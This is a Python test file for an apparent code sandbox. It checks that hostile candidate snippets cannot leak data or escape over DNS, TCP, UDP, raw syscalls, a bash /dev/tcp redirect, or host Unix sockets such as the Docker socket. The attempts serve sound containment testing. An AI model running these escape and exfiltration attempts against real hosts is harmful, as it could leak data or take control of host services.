"""Hostile candidates that try to reach the network (to leak data or fetch answers).

The servers are started by each test on the host's loopback and stopped after it;
containment means the candidate's attempts fail and the server receives nothing.
"""

from __future__ import annotations

import contextlib
import secrets
import socket
import threading
from collections.abc import Iterator

import pytest

from sandbox_support import Hostile


class _Server:
    """A loopback server (TCP, UDP or abstract Unix) that records what reaches it."""

    def __init__(self, family: int, kind: int, address: object) -> None:
        self.sock = socket.socket(family, kind)
        self.sock.bind(address)  # type: ignore[arg-type]
        if kind == socket.SOCK_STREAM:
            self.sock.listen(8)
        self.sock.settimeout(0.1)
        self.received: list[bytes] = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    @property
    def port(self) -> int:
        return int(self.sock.getsockname()[1])

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                if self.sock.type == socket.SOCK_STREAM:
                    conn, _ = self.sock.accept()
                    self.received.append(b"<connection>")
                    conn.settimeout(0.5)
                    with contextlib.suppress(OSError):
                        self.received.append(conn.recv(1024))
                    conn.close()
                else:
                    self.received.append(self.sock.recv(1024))
            except TimeoutError:
                continue
            except OSError:
                return

    def close(self) -> None:
        self.stop.set()
        self.thread.join(2)
        self.sock.close()


@pytest.fixture
def tcp_server() -> Iterator[_Server]:
    server = _Server(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 0))
    yield server
    server.close()


@pytest.fixture
def udp_server() -> Iterator[_Server]:
    server = _Server(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 0))
    yield server
    server.close()


def test_resolves_names_over_dns(hostile: Hostile, udp_server: _Server) -> None:
    """Resolve host names, and query a DNS server on the host's loopback directly."""
    out = hostile.run(
        """
        import json, socket, sys
        res = {}
        for name in ("example.com", "localhost", "pypi.org"):
            try:
                res[name] = socket.getaddrinfo(name, 53)[0][4][0]
            except OSError as e:
                res[name] = type(e).__name__
        query = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01"
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.sendto(query, ("127.0.0.1", int(sys.argv[1])))
            res["query"] = "sent"
        except OSError as e:
            res["query"] = type(e).__name__
        print(json.dumps(res))
        """,
        args=[str(udp_server.port)],
    )
    assert out.result.exit_code == 0, out.result
    assert out.report["example.com"] == "gaierror"
    assert out.report["pypi.org"] == "gaierror"
    assert out.report["query"] == "PermissionError"
    assert udp_server.received == []


def test_connects_to_a_tcp_server(hostile: Hostile, tcp_server: _Server) -> None:
    """Connect to a TCP server on the host's loopback: Python's socket, raw syscalls, bash."""
    out = hostile.run(
        """
        import ctypes, json, os, socket, struct, subprocess, sys
        port = int(sys.argv[1])
        res = {}
        try:
            socket.create_connection(("127.0.0.1", port), timeout=2).sendall(b"leak")
            res["python"] = "connected"
        except OSError as e:
            res["python"] = type(e).__name__
        libc = ctypes.CDLL(None, use_errno=True)
        fd = libc.syscall(41, 2, 1, 0)  # socket(AF_INET, SOCK_STREAM, 0)
        res["raw_socket"] = fd if fd < 0 else "created"
        if fd >= 0:
            addr = struct.pack("=HH4s8x", 2, socket.htons(port), bytes([127, 0, 0, 1]))
            res["raw_connect"] = libc.connect(fd, addr, len(addr))
        fd6 = libc.syscall(41, 10, 1, 0)  # socket(AF_INET6, ...)
        res["raw_socket6"] = fd6 if fd6 < 0 else "created"
        p = subprocess.run(["bash", "-c", f"echo leak > /dev/tcp/127.0.0.1/{port}"],
                           capture_output=True)
        res["bash"] = p.returncode
        print(json.dumps(res))
        """,
        args=[str(tcp_server.port)],
    )
    assert out.result.exit_code == 0, out.result
    report = out.report
    assert report["python"] == "PermissionError"
    assert report["raw_socket"] == -1 and report["raw_socket6"] == -1
    assert report["bash"] != 0
    assert tcp_server.received == []


def test_sends_udp_to_a_local_server(hostile: Hostile, udp_server: _Server) -> None:
    """Send UDP datagrams to a server on the host's loopback (and broadcast)."""
    out = hostile.run(
        """
        import json, socket, sys
        res = {}
        for dest in (("127.0.0.1", int(sys.argv[1])), ("255.255.255.255", 9)):
            try:
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                s.sendto(b"leak", dest)
                res[dest[0]] = "sent"
            except OSError as e:
                res[dest[0]] = type(e).__name__
        try:
            socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
            res["packet"] = "created"
        except OSError as e:
            res["packet"] = type(e).__name__
        print(json.dumps(res))
        """,
        args=[str(udp_server.port)],
    )
    assert out.result.exit_code == 0, out.result
    assert set(out.report.values()) == {"PermissionError"}, out.report
    assert udp_server.received == []


def test_reaches_a_host_unix_socket(hostile: Hostile, tmp_path: object) -> None:
    """Connect to host services over Unix sockets: abstract names and socket files."""
    name = "evoforge-test-" + secrets.token_hex(6)
    server = _Server(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + name)
    try:
        out = hostile.run(
            """
            import json, socket, sys
            res = {}
            for addr in ("\\0" + sys.argv[1], "/run/systemd/private", "/var/run/docker.sock"):
                try:
                    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                    s.settimeout(2)
                    s.connect(addr)
                    s.sendall(b"leak")
                    res[addr] = "connected"
                except OSError as e:
                    res[addr] = type(e).__name__
            a, b = socket.socketpair()
            a.sendall(b"inside")
            res["socketpair"] = b.recv(6).decode()
            print(json.dumps(res))
            """,
            args=[name],
        )
    finally:
        server.close()
    assert out.result.exit_code == 0, out.result
    report = out.report
    assert report.pop("socketpair") == "inside"  # AF_UNIX itself keeps working
    assert "connected" not in report.values(), report
    assert server.received == []
